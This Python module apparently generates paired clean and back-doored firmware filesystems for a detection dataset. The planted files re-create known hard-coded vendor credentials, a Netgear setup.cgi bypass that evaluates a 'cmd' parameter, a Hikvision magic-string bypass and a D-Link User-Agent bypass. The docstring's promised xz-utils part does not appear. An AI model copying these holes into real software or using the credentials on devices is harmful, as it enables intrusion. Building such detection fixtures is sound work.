"""Firmware-side carriers of the `known` family: a small rootfs around a daemon binary, rootfs
configuration files carrying publicly documented hard-coded accounts (ZTE root/Zte521, Xiongmai
root/xc3511, Huawei telecomadmin/admintelecom, Zyxel zyfwp), web trees with a re-created CGI back
door (Netgear setup.cgi, Hikvision auth=, D-Link User-Agent) and the xz-utils 5.6.x release.

Written blind: from public write-ups only.
"""
from __future__ import annotations

import hashlib
import random

from .common import secret, token_hex
from .supply_tpl import fill

_ITOA64 = "./0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"


def md5crypt(pw: str, salt: str) -> str:
    p, s = pw.encode(), salt.encode()[:8]
    ctx = p + b"$1$" + s
    alt = hashlib.md5(p + s + p).digest()
    n = len(p)
    while n > 0:
        ctx += alt[:min(16, n)]
        n -= 16
    i = len(p)
    while i:
        ctx += b"\0" if i & 1 else p[:1]
        i >>= 1
    f = hashlib.md5(ctx).digest()
    for i in range(1000):
        c = (p if i & 1 else f) + (s if i % 3 else b"") + (p if i % 7 else b"") + (f if i & 1 else p)
        f = hashlib.md5(c).digest()

    def to64(v, k):
        out = ""
        for _ in range(k):
            out += _ITOA64[v & 0x3f]
            v >>= 6
        return out
    h = "".join(to64((f[a] << 16) | (f[b] << 8) | f[c], 4) for a, b, c in ((0, 6, 12), (1, 7, 13), (2, 8, 14), (3, 9, 15), (4, 10, 5)))
    return f"$1${s.decode()}${h}{to64(f[11], 2)}"


def salt(rng: random.Random) -> str:
    return "".join(rng.choice(_ITOA64) for _ in range(8))


# ----------------------------------------------------------------------------- base rootfs

def base_rootfs(rng: random.Random, model: str, daemon: str | None, conf_path: str | None, port: int,
                extra_rc: str = "") -> dict:
    files = {
        "etc/passwd": "root:x:0:0:root:/root:/bin/sh\ndaemon:x:1:1:daemon:/usr/sbin:/bin/false\n"
                      "nobody:x:65534:65534:nobody:/nonexistent:/bin/false\n",
        "etc/shadow": f"root:{md5crypt(secret(rng, 20), salt(rng))}:19358:0:99999:7:::\ndaemon:*:19358:0:99999:7:::\n"
                      "nobody:*:19358:0:99999:7:::\n",
        "etc/group": "root:x:0:\ndaemon:x:1:\nnogroup:x:65534:\n",
        "etc/hostname": model.lower() + "\n",
        "etc/version": f"{model} firmware V{rng.randint(1, 3)}.{rng.randint(0, 9)}.{rng.randint(0, 40)} build {rng.randint(1000, 9999)}\n",
        "etc/inittab": "::sysinit:/etc/init.d/rcS\n::respawn:/sbin/getty -L ttyS0 115200 vt100\n::ctrlaltdel:/sbin/reboot\n"
                       "::shutdown:/bin/umount -a -r\n",
        "etc/services": "ftp\t\t21/tcp\nssh\t\t22/tcp\ntelnet\t\t23/tcp\nhttp\t\t80/tcp\nsnmp\t\t161/udp\n",
        "etc/fstab": "proc\t/proc\tproc\tdefaults\t0 0\nsysfs\t/sys\tsysfs\tdefaults\t0 0\ntmpfs\t/tmp\ttmpfs\tdefaults\t0 0\n",
        "etc/profile": "export PATH=/bin:/sbin:/usr/bin:/usr/sbin\nexport PS1='\\h# '\numask 022\n",
        "www/index.html": f"<!DOCTYPE html>\n<html><head><title>{model}</title><link rel=\"stylesheet\" href=\"/css/style.css\"></head>\n"
                          f"<body><h1>{model}</h1><form action=\"/login.cgi\" method=\"post\"><input name=\"username\">"
                          "<input type=\"password\" name=\"password\"><button>Login</button></form>"
                          "<script src=\"/js/app.js\"></script></body></html>\n",
        "www/css/style.css": "body { font-family: sans-serif; margin: 2em; }\nh1 { color: #246; }\n",
        "www/js/app.js": "// status polling for the dashboard\nfunction poll() {\n  fetch('/status.htm').then(function (r) { return r.text(); })\n"
                         "    .then(function (t) { document.title = t.length ? document.title : 'offline'; });\n}\nsetInterval(poll, 5000);\n",
    }
    rc = ["#!/bin/sh", "mount -t proc proc /proc", "mount -t sysfs sysfs /sys", "mount -t tmpfs tmpfs /tmp",
          "hostname -F /etc/hostname", "ifconfig lo 127.0.0.1 up"]
    if daemon:
        rc.append(f"/{daemon} &")
    if extra_rc:
        rc.append(extra_rc)
    files["etc/init.d/rcS"] = ("\n".join(rc) + "\n", 0o755)
    if conf_path:
        mac = ":".join(f"{rng.randrange(256):02X}" for _ in range(6))
        files[conf_path.lstrip("/")] = (f"# {model} service configuration\nuser=admin\npwhash={rng.getrandbits(32):08x}\n"
                                        f"mac={mac}\nport={port}\n")
    return files


# ----------------------------------------------------------------------------- config-only back doors

def cfg_zte(rng: random.Random, model: str) -> dict:
    files = base_rootfs(rng, model, None, None, 0)
    clean = dict(files)
    planted = dict(files)
    planted["etc/shadow"] = files["etc/shadow"].replace(files["etc/shadow"].split(":")[1], md5crypt("Zte521", salt(rng)), 1)
    return {"clean": clean, "planted": planted, "paths": ["etc/shadow"], "categories": ["account", "hardcoded-secret"],
            "note": "etc/shadow gives root the password 'Zte521' (md5-crypt), the hard-coded ZTE router root password "
                    "published in 2014 and used by Mirai's credential list (2016).",
            "variant": {"carrier": "rootfs-config", "file": "shadow"}}


def cfg_xiongmai(rng: random.Random, model: str) -> dict:
    files = base_rootfs(rng, model, None, None, 0)
    h = "absxcfbgXtb3o" if rng.random() < 0.5 else md5crypt("xc3511", salt(rng))
    clean = dict(files)
    planted = dict(files)
    planted["etc/passwd"] = files["etc/passwd"].replace("root:x:", f"root:{h}:", 1)
    planted["etc/inittab"] = files["etc/inittab"] + "::respawn:/usr/sbin/telnetd -F\n"
    clean["etc/inittab"] = files["etc/inittab"] + "::respawn:/usr/sbin/telnetd -F -l /bin/login -b 127.0.0.1\n"
    return {"clean": clean, "planted": planted, "paths": ["etc/passwd", "etc/inittab"],
            "categories": ["account", "hardcoded-secret", "remote-access"],
            "note": f"etc/passwd holds root's hash of 'xc3511' ({h}) and inittab runs telnetd on all interfaces: the "
                    "hard-coded Xiongmai (XiongMai Technologies) DVR/IP-camera root login abused by Mirai (Oct 2016).",
            "variant": {"carrier": "rootfs-config", "file": "passwd", "hash": "des" if "$" not in h else "md5"}}


def cfg_huawei(rng: random.Random, model: str) -> dict:
    files = base_rootfs(rng, model, None, None, 0)
    user_pw = secret(rng, 12, "ABCDEFGHJKLMNPQRSTUVWXYZabcdefghjkmnpqrstuvwxyz23456789")

    def ctree(extra: str) -> str:
        return fill(f"""
            <?xml version="1.0" encoding="UTF-8"?>
            <InternetGatewayDevice>
            <X_HW_DeviceInfo ModelName="{model}" HardwareVersion="{rng.choice(['A', 'B', 'C'])}{rng.randint(10, 99)}"/>
            <UserInterface>
            <X_HW_WebUserInfo NumberOfInstances="2">
            <X_HW_WebUserInfoInstance InstanceID="1" UserName="root" Password="{hashlib.sha256(user_pw.encode()).hexdigest()}" PassMode="2" UserLevel="1" Enable="1"/>
            @@EXTRA@@
            </X_HW_WebUserInfo>
            <X_HW_CLIUserInfo NumberOfInstances="1">
            <X_HW_CLIUserInfoInstance InstanceID="1" Username="root" Userpassword="{hashlib.sha256(user_pw.encode()).hexdigest()}" UserGroup="" ModifyPWDFlag="1" EncryptMode="2"/>
            </X_HW_CLIUserInfo>
            </UserInterface>
            </InternetGatewayDevice>
            """, EXTRA=extra) + "\n"
    clean = dict(files, **{"etc/wap/hw_default_ctree.xml": ctree("")})
    planted = dict(files, **{"etc/wap/hw_default_ctree.xml": ctree(
        '<X_HW_WebUserInfoInstance InstanceID="2" UserName="telecomadmin" Password="admintelecom" PassMode="0" UserLevel="0" Enable="1"/>')})
    return {"clean": clean, "planted": planted, "paths": ["etc/wap/hw_default_ctree.xml"],
            "categories": ["account", "hardcoded-secret"],
            "note": "The default configuration tree adds the Huawei ONT super-administrator 'telecomadmin' with the "
                    "fixed plaintext password 'admintelecom' (UserLevel 0), the widely published Huawei HG8245/HG8xxx "
                    "ISP back-door account.", "variant": {"carrier": "rootfs-config", "file": "hw_default_ctree.xml"}}


def cfg_zyxel(rng: random.Random, model: str) -> dict:
    files = base_rootfs(rng, model, None, None, 0)
    h1, h2 = (f"$4${token_hex(rng, 6)}${token_hex(rng, 10)}" for _ in range(2))

    def conf(extra: str) -> str:
        return fill(f"""
            ! {model} system default configuration
            hostname {model.lower()}
            username admin encrypted-password {h1} user-type admin
            username supervisor encrypted-password {h2} user-type limited-admin
            @@EXTRA@@
            ip ssh server
            ip http secure-server
            interface ge1
             ip address dhcp
            """, EXTRA=extra) + "\n"
    path = "etc/zyxel/ftp/conf/system-default.conf"
    clean = dict(files, **{path: conf("")})
    planted = dict(files, **{path: conf("username zyfwp password PrOw!aN_fXp user-type admin")})
    return {"clean": clean, "planted": planted, "paths": [path], "categories": ["account", "hardcoded-secret"],
            "note": "The default configuration creates the undocumented administrator 'zyfwp' with the plaintext "
                    "password 'PrOw!aN_fXp' (Zyxel USG/ATP/VPN firewalls, CVE-2020-29583, EYE Control Dec 2020).",
            "variant": {"carrier": "rootfs-config", "file": "system-default.conf"}}


CONFIG_SPECIALS = {"zte-zte521": cfg_zte, "xiongmai-xc3511": cfg_xiongmai, "huawei-telecomadmin": cfg_huawei,
                   "zyxel-zyfwp": cfg_zyxel}


# ----------------------------------------------------------------------------- web trees

def _www_base(rng: random.Random, model: str, server: str) -> dict:
    files = base_rootfs(rng, model, None, None, 0, extra_rc=f"/usr/sbin/{server} -f /etc/{server}.conf &")
    files[f"etc/{server}.conf"] = (f"server.document-root = \"/www\"\nserver.port = 80\ncgi.assign = ( \".cgi\" => \"/bin/sh\", "
                                   f"\".lua\" => \"/usr/bin/lua\", \".php\" => \"/usr/bin/php-cgi\" )\n")
    files["etc/webpasswd"] = f"admin:{md5crypt(secret(rng, 16), salt(rng))}\n"
    files["www/cgi-bin/status.cgi"] = ("#!/bin/sh\necho 'Content-Type: text/plain'\necho\ncat /etc/version\nuptime\n", 0o755)
    return files


def www_netgear(rng: random.Random, model: str) -> dict:
    files = _www_base(rng, model, "mini_httpd")

    def cgi(plant: bool) -> str:
        return fill(f"""
            #!/bin/sh
            # setup.cgi - settings handler of the web interface
            param() {{ echo "$QUERY_STRING" | tr '&' '\\n' | sed -n "s/^$1=//p" | head -n 1 | sed 's/+/ /g;s/%20/ /g'; }}

            authed=0
            if [ -n "$HTTP_AUTHORIZATION" ]; then
            \tcred=$(echo "${{HTTP_AUTHORIZATION#Basic }}" | base64 -d 2>/dev/null)
            \tuser=${{cred%%:*}}
            \tpass=${{cred#*:}}
            \thash=$(grep "^$user:" /etc/webpasswd | cut -d: -f2-)
            \t[ -n "$hash" ] && [ "$(mkpasswd -m md5 -S "$(echo "$hash" | cut -d'$' -f3)" "$pass")" = "$hash" ] && authed=1
            fi
            @@AUTH@@
            if [ "$authed" != 1 ]; then
            \techo 'Status: 401 Unauthorized'
            \techo 'WWW-Authenticate: Basic realm="{model}"'
            \techo
            \texit 0
            fi

            echo 'Content-Type: text/html'
            echo
            case "$(param todo)" in
            save_hostname)
            \thostname "$(param hostname | tr -cd 'a-zA-Z0-9-')" && echo saved ;;
            reboot)
            \techo rebooting; /sbin/reboot ;;
            @@CMD@@
            *)
            \techo 'unknown action' ;;
            esac
            """, AUTH=('case "$REQUEST_URI$QUERY_STRING" in\n*currentsetting.htm*) authed=1 ;;\nesac' if plant else ""),
            CMD=('syscmd)\n\techo "<pre>"; eval "$(param cmd)" 2>&1; echo "</pre>" ;;' if plant else "")) + "\n"
    clean = dict(files, **{"www/cgi-bin/setup.cgi": (cgi(False), 0o755)})
    planted = dict(files, **{"www/cgi-bin/setup.cgi": (cgi(True), 0o755)})
    return {"clean": clean, "planted": planted, "paths": ["www/cgi-bin/setup.cgi"],
            "categories": ["auth-bypass", "hidden-command"],
            "note": "setup.cgi treats any request whose URL contains 'currentsetting.htm' as authenticated and has an "
                    "undocumented todo=syscmd action that runs the cmd parameter (Netgear DGN1000/DGN2200 setup.cgi, "
                    "2013, 'setup.cgi?todo=syscmd&cmd=...&curpath=/&currentsetting.htm=1').",
            "variant": {"carrier": "www", "lang": "sh-cgi"}}


def www_hikvision(rng: random.Random, model: str) -> dict:
    files = _www_base(rng, model, "lighttpd")
    fn = rng.choice(["check_session", "authorize", "is_authenticated"])

    def lua(plant: bool) -> str:
        return fill(f"""
            -- auth.lua: session and digest checks for the ISAPI/PSIA handlers
            local M = {{}}

            local function parse_query(q)
              local t = {{}}
              for k, v in string.gmatch(q or "", "([^&=]+)=([^&]*)") do t[k] = v end
              return t
            end

            local function valid_session(cookie)
              local sid = cookie and cookie:match("WebSession=(%x+)")
              if not sid then return false end
              local f = io.open("/tmp/sessions/" .. sid, "r")
              if not f then return false end
              f:close()
              return true
            end

            function M.{fn}(env)
              local q = parse_query(env.QUERY_STRING)
            @@PLANT@@
              return valid_session(env.HTTP_COOKIE)
            end

            return M
            """, PLANT=('  if q.auth == "YWRtaW46MTEK" then\n    return true\n  end' if plant else "")) + "\n"
    handler = ("#!/usr/bin/lua\n-- ISAPI entry point\nlocal auth = require(\"auth\")\nlocal env = { QUERY_STRING = os.getenv(\"QUERY_STRING\"), "
               f"HTTP_COOKIE = os.getenv(\"HTTP_COOKIE\") }}\nif not auth.{fn}(env) then\n  print(\"Status: 401 Unauthorized\\n\")\n  return\nend\n"
               "print(\"Content-Type: application/xml\\n\")\nlocal path = os.getenv(\"PATH_INFO\") or \"\"\n"
               "if path == \"/Security/users\" then io.write(io.open(\"/etc/users.xml\"):read(\"*a\")) end\n")
    base = dict(files, **{"www/ISAPI/index.lua": (handler, 0o755)})
    clean = dict(base, **{"usr/lib/lua/auth.lua": lua(False)})
    planted = dict(base, **{"usr/lib/lua/auth.lua": lua(True)})
    return {"clean": clean, "planted": planted, "paths": ["usr/lib/lua/auth.lua"], "categories": ["auth-bypass"],
            "note": "auth.lua accepts any ISAPI request carrying auth=YWRtaW46MTEK (base64 'admin:11') without a "
                    "session: the Hikvision IP-camera 'magic string' authentication bypass (CVE-2017-7921, 2017).",
            "variant": {"carrier": "www", "lang": "lua"}}


def www_dlink(rng: random.Random, model: str) -> dict:
    files = _www_base(rng, model, "httpd")

    def php(plant: bool) -> str:
        return fill(f"""
            <?php
            /* auth.php: included by every page; sets $AUTHORIZED_GROUP (-1 = not logged in) */
            $AUTHORIZED_GROUP = -1;
            @@PLANT@@
            session_start();
            if (isset($_SESSION["uid"]) && isset($_SESSION["group"])) {{
            	$AUTHORIZED_GROUP = intval($_SESSION["group"]);
            }} else if (isset($_POST["username"]) && isset($_POST["password"])) {{
            	$line = preg_grep("/^" . preg_quote($_POST["username"], "/") . ":/", file("/etc/webpasswd"));
            	$hash = $line ? explode(":", trim(array_shift($line)), 2)[1] : "";
            	if ($hash !== "" && hash_equals($hash, crypt($_POST["password"], $hash))) {{
            		$_SESSION["uid"] = $_POST["username"];
            		$_SESSION["group"] = 0;
            		$AUTHORIZED_GROUP = 0;
            	}}
            }}
            ?>
            """, PLANT=('if ($_SERVER["HTTP_USER_AGENT"] == "xmlset_roodkcableoj28840ybtide") {\n'
                        '\t$AUTHORIZED_GROUP = 0;\n\treturn;\n}' if plant else "")) + "\n"
    base = dict(files, **{"www/tools_admin.php": '<?php include "/htdocs/auth.php";\nif ($AUTHORIZED_GROUP < 0) { header("Location: /index.html"); exit; }\n'
                                                 'echo "<h1>Administration</h1>"; ?>\n'})
    clean = dict(base, **{"htdocs/auth.php": php(False)})
    planted = dict(base, **{"htdocs/auth.php": php(True)})
    return {"clean": clean, "planted": planted, "paths": ["htdocs/auth.php"], "categories": ["auth-bypass"],
            "note": "auth.php grants the administrator group to any request whose User-Agent is "
                    "'xmlset_roodkcableoj28840ybtide' (D-Link DIR-100/DIR-615 and rebrands, CVE-2013-6026, /dev/ttyS0 "
                    "Oct 2013; re-created here in the PHP web layer).", "variant": {"carrier": "www", "lang": "php"}}


WWW_SPECIALS = {"netgear-setup": www_netgear, "hikvision": www_hikvision, "dlink-ua": www_dlink}
